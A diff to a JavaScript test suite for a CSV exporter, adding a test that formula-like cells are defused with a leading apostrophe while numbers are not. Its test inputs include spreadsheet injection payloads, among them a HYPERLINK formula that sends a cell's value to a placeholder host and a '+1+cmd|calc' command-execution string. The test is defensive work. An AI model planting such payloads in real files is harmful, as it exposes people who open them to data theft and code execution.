@@ -35,7 +35,22 @@ test('CSV quoting, nulls, nested values', () => {
     '"a ""b""",1,"[""x"",""y""]"\r\n' +
     ',2.5,\r\n' +
     '"line\nbreak",-3,"{""k"":1}"\r\n' +
-    '" pad",0,=1+1\r\n');
+    '" pad",0,\'=1+1\r\n');
+});
+
+test('CSV: text a spreadsheet would run as a formula is defused, numbers are not', () => {
+  const cols = [{ name: 'v' }];
+  const rows = [['=HYPERLINK("http://x/?"&A1)'], ['+1+cmd|calc'], ['-2+3'], ['@SUM(A1)'], ['\tx'], ['\r=1'],
+    ['-3'], ['+4.5'], ['-1e3'], [-7], ['a=b'], ['email@x.org']];
+  assert.equal(toCSV(cols, rows),
+    'v\r\n' +
+    '"\'=HYPERLINK(""http://x/?""&A1)"\r\n' +
+    "'+1+cmd|calc\r\n" +
+    "'-2+3\r\n" +
+    "'@SUM(A1)\r\n" +
+    "'\tx\r\n" +
+    '"\'\r=1"\r\n' +
+    '-3\r\n+4.5\r\n-1e3\r\n-7\r\na=b\r\nemail@x.org\r\n');
 });
 
 test('formatCell', () => {
